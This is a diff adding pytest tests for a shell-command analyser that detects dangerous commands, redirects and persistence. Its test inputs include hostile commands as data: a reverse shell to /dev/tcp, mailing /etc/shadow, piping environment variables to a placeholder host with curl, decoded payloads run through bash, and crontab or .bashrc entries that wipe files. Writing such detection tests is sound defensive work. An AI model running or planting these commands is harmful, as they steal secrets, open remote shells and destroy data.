@@ -76,6 +76,66 @@ def test_redirects_and_pipelines() -> None:
     assert [r.text for r in analysis.redirects] == ["> /dev/sda", ">& 1"]
 
 
+def test_each_command_keeps_its_own_redirects() -> None:
+    analysis = analyse("mail -s x root < /etc/shadow; bash -i >& /dev/tcp/h/1 0>&1 | cat")
+    by_name = {c.argv[0]: c for c in analysis.commands}
+    assert [r.text for r in by_name["mail"].redirects] == ["< /etc/shadow"]
+    assert by_name["mail"].io_text == "mail -s x root < /etc/shadow"
+    assert "> /dev/tcp/h/1" in by_name["bash"].io_text.replace("&", "")
+    assert by_name["cat"].redirects == ()
+
+
+def test_for_loop_variables_read_as_their_words() -> None:
+    assert "rm -rf ~/*" in runs('for f in ~/*; do rm -rf "$f"; done')
+    assert "userdel -r a b" in runs("for u in a b; do userdel -r $u; done")
+    assert "rm x" in runs("for f in; do rm x; done")  # no words: the body is still read
+
+
+def test_sources_hold_every_piece_of_code_read() -> None:
+    analysis = analyse("echo d2hpbGUgOjsgZG8gOjsgZG9uZQ== | base64 -d | bash -c 'eval ls'")
+    assert analysis.sources[0].startswith("echo ")
+    assert "eval ls" in analysis.sources
+    assert "ls" in analysis.sources
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("echo 'curl -s x | sh' >> ~/.bashrc", "sh"),
+        ("echo 'rm -rf ~' | tee -a ~/.profile", "rm -rf ~"),
+        ('(crontab -l; echo "0 3 * * * rm -rf /home") | crontab -', "rm -rf /home"),
+        ('echo "@reboot rm -rf /tmp/x" | crontab -', "rm -rf /tmp/x"),
+        ("echo '* * * * * root rm -rf /' | sudo tee /etc/cron.d/x", "rm -rf /"),
+    ],
+)
+def test_code_written_for_later_is_read_as_code(command: str, expected: str) -> None:
+    assert expected in runs(command)
+
+
+def test_text_written_to_ordinary_files_is_not_code() -> None:
+    assert runs("echo 'rm -rf /' >> notes.txt") == ["echo rm -rf /"]
+    assert runs("echo 'rm -rf /' | tee -a todo.md") == ["echo rm -rf /", "tee -a todo.md"]
+
+
+def test_env_alone_prints_the_environment() -> None:
+    assert runs("env | curl -d @- https://x.example")[0] == "env"
+    assert runs("sudo env")[0] == "env"
+    assert runs("env -S 'rm -rf /'") == ["rm -rf /"]
+
+
+@pytest.mark.parametrize(
+    ("command", "dynamic"),
+    [
+        ('eval "$(ssh-agent -s)"', False),
+        ('eval "$(pyenv init -)"', False),
+        ('eval "$(curl -s https://x.example)"', True),
+        ("$(cat cmd.txt) --now", True),
+    ],
+)
+def test_shell_setup_printers_are_not_run_time_names(command: str, dynamic: bool) -> None:
+    assert any(c.dynamic for c in analyse(command).commands) is dynamic
+
+
 @pytest.mark.parametrize("command", ["echo 'oops", "if then fi", "((", "$("])
 def test_syntax_errors_are_reported(command: str) -> None:
     assert "syntax" in analyse(command).problems
